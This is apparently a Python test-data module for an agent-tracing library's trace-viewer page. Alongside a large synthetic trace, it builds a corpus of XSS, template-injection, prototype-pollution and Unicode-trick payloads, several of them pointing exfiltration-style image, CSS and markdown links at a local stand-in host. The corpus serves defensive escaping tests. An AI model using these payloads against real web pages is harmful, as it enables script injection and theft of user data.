"""Data for the trace page tests and benchmark: a real 10,000-call run and a hostile corpus."""

from __future__ import annotations

import contextlib
import json
from typing import Any

import toolspan
from toolspan import semconv as sc
from toolspan.bridge.model import Span, SpanEvent
from toolspan.bridge.readers import from_readable_spans
from toolspan.testing import capture_spans

T0 = 1_700_000_000_000_000_000
MS = 1_000_000
TRACE = "ab" * 16


# --- a large run, recorded by the real instrumentation ------------------------------------------------


def big_run(calls: int = 10_000) -> list[Span]:
    """One agent trace with ``calls`` tool calls (every 50th fails, every 100th starts a sub-plan with one
    tool), recorded by ``@toolspan.tool`` on a real SDK provider with sequential ids and a fake clock."""

    @toolspan.tool
    def lookup(key: str, page: int) -> dict[str, Any]:
        """Look a key up in the index."""
        if page % 50 == 49:
            raise KeyError(f"no page {page} for {key}")
        return {"key": key, "page": page, "hits": [page, page + 1]}

    @toolspan.tool
    def fetch(url: str) -> str:
        """Fetch a document."""
        return "<html>ok</html>"

    @toolspan.tool
    def delegate(task: str) -> str:
        """Hand a task to a sub-agent."""
        with toolspan.plan("sub-" + task):
            fetch("https://example.com/" + task)
        return "done"

    with capture_spans(deterministic=True) as finished:
        with toolspan.agent("bulk", input="Index everything", conversation_id="conv-big"):
            made = 0
            page = 0
            while made < calls:
                if page % 100 == 99 and made + 2 <= calls:
                    delegate(f"t{page}")
                    made += 2
                else:
                    with contextlib.suppress(KeyError):
                        lookup("alpha", page)
                    made += 1
                page += 1
        return from_readable_spans(finished())


# --- hostile corpus -------------------------------------------------------------------------------

# Every payload that runs calls window.__pwn() (the test defines it) or sets window.__pwned.
_RUN = "__pwn()"
_SET = "window.__pwned=1"
EXFIL = "http://127.0.0.1:9/exfil"

_BASES: list[str] = [
    f"</script><script>{_RUN}</script>",
    f"</SCRIPT><SCRIPT>{_RUN}</SCRIPT>",
    f"</script ><script >{_SET}</script >",
    f"</script\t><script>{_RUN}</script>",
    f"<!--<script>{_RUN}</script>-->",
    f"<script>{_RUN}</script>",
    f"<script src={EXFIL}.js></script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f'"><script>{_RUN}</script>',
    f"'><script>{_SET}</script>",
    f"</style><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f'<img src=x onerror="{_RUN}">',
    f"<img src=x onerror={_SET}>",
    f'<img src="{EXFIL}.png">',
    f"<body onload={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f'<svg><animate onbegin="{_RUN}" attributeName=x dur=1s>',
    f'<svg><a xlink:href="javascript:{_RUN}"><text x=20 y=20>click</text></a></svg>',
    f'<svg><image href="{EXFIL}.svg"/></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{_RUN}">',
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}>",
    f"<audio src=x onerror={_RUN}>",
    f'<iframe src="javascript:{_RUN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f'<object data="javascript:{_RUN}"></object>',
    f'<embed src="javascript:{_RUN}">',
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_SET}",
    f'<a href="javascript:{_RUN}">click me</a>',
    f"[click me](javascript:{_RUN})",
    f"![exfil]({EXFIL}?d=secret)",
    f"![x]({EXFIL}.png 'title')",
    f"<img src={EXFIL}?cookie=1 width=0>",
    f'<link rel=stylesheet href="{EXFIL}.css">',
    f"<style>@import url({EXFIL}.css);</style>",
    f"<div style=\"background:url('{EXFIL}.bg')\">x</div>",
    f'<meta http-equiv="refresh" content="0;url={EXFIL}">',
    f'<base href="{EXFIL}/">',
    f'<form action="{EXFIL}"><button>go</button></form>',
    f"<form><button formaction=javascript:{_RUN}>x</button></form>",
    "{{constructor.constructor('" + _RUN + "')()}}",
    "${" + _RUN + "}",
    "#{" + _RUN + "}",
    "<%= " + _RUN + " %>",
    f"<template><script>{_RUN}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f"<xmp><script>{_RUN}</script></xmp>",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    "\u202eexe.txt\u202c: a bidi override",
    "\u2066isolated\u2069 \u2067rtl\u2069 \u200fmark\u200e",
    "line\u2028separator\u2029paragraph",
    "nul\x00byte and \x1b[31mansi\x1b[0m",
    "\ufeffbom and \ufffe noncharacter",
    "emoji 👩‍💻 and CJK 工具 and Arabic أداة",
    '{"__proto__": {"polluted": true}}',
    "constructor",
    "__proto__",
    "toString",
    "hasOwnProperty",
    "<!--",
    "-->",
    "]]>",
    "&lt;script&gt;" + _RUN + "&lt;/script&gt;",
    "&#60;script&#62;" + _RUN,
    "%3Cscript%3E" + _RUN + "%3C/script%3E",
    "\\u003cscript\\u003e" + _RUN,
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    f'<a href="{EXFIL}" ping="{EXFIL}/ping">ping</a>',
    f"<marquee onstart={_RUN}>m</marquee>",
    f"<select autofocus onfocus={_RUN}></select>",
    f"<isindex type=image src=1 onerror={_RUN}>",
    f"<x onclick={_RUN} style=display:block;position:fixed;inset:0>click</x>",
    f'" onmouseover="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus x='",
    f"`; {_RUN}; `",
    f"'); {_RUN}; ('",
    f'"); {_RUN}; ("',
    f"</script><!--<script>{_RUN}//-->",
]
_WRAPS = (
    "{}",
    "tool output: {} (end)",
    "{}\n{}",
    "<p>{}</p>",
)


def hostile_payloads() -> list[str]:
    """At least 200 distinct hostile strings (each tagged with its number), one of them over a megabyte."""
    out: list[str] = []
    for wrap in _WRAPS:
        for base in _BASES:
            out.append(f"#{len(out)} " + wrap.replace("{}", base))
    out.append(f"#{len(out)} " + "A" * (1 << 20) + f"</script><script>{_RUN}</script>")
    out.append(f"#{len(out)} " + f"<img src=x onerror={_RUN}>" * 2_000)
    return out


def _message(role: str, text: str) -> str:
    return json.dumps([{"role": role, "parts": [{"type": "text", "content": text}]}])


def hostile_run(payloads: list[str]) -> list[Span]:
    """Per payload: an agent named by it, whose input, answer and thought are it, and a failing tool named
    by it with the payload as argument key and value, as result, error type, message and stack, and as an
    attribute key. All in one trace of one conversation."""
    spans: list[Span] = []
    sid = 0
    for i, p in enumerate(payloads):
        t = T0 + i * 10 * MS
        sid += 1
        agent_id = f"{sid:016x}"
        spans.append(
            Span(
                trace_id=TRACE,
                span_id=agent_id,
                parent_span_id=None,
                name="invoke_agent " + p,
                start_ns=t,
                end_ns=t + 9 * MS,
                attributes={
                    sc.GEN_AI_OPERATION_NAME: sc.OP_INVOKE_AGENT,
                    sc.GEN_AI_AGENT_NAME: p,
                    sc.GEN_AI_CONVERSATION_ID: "conv-hostile",
                    sc.GEN_AI_INPUT_MESSAGES: _message("user", p),
                    sc.GEN_AI_OUTPUT_MESSAGES: _message("assistant", p),
                },
                events=(SpanEvent(sc.THOUGHT_EVENT, t + MS, {sc.THOUGHT_CONTENT: p}),),
            )
        )
        sid += 1
        tool_id = f"{sid:016x}"
        spans.append(
            Span(
                trace_id=TRACE,
                span_id=tool_id,
                parent_span_id=agent_id,
                name="execute_tool " + p,
                start_ns=t + 2 * MS,
                end_ns=t + 8 * MS,
                status="ERROR",
                status_message=p,
                attributes={
                    sc.GEN_AI_OPERATION_NAME: sc.OP_EXECUTE_TOOL,
                    sc.GEN_AI_TOOL_NAME: p,
                    sc.GEN_AI_TOOL_CALL_ARGUMENTS: json.dumps({p: p}),
                    sc.GEN_AI_TOOL_CALL_RESULT: json.dumps(p),
                    sc.ERROR_TYPE: p,
                    p: p,
                },
                events=(
                    SpanEvent(
                        sc.EXCEPTION_EVENT,
                        t + 7 * MS,
                        {sc.EXCEPTION_TYPE: p, sc.EXCEPTION_MESSAGE: p, sc.EXCEPTION_STACKTRACE: p},
                    ),
                ),
            )
        )
    return spans
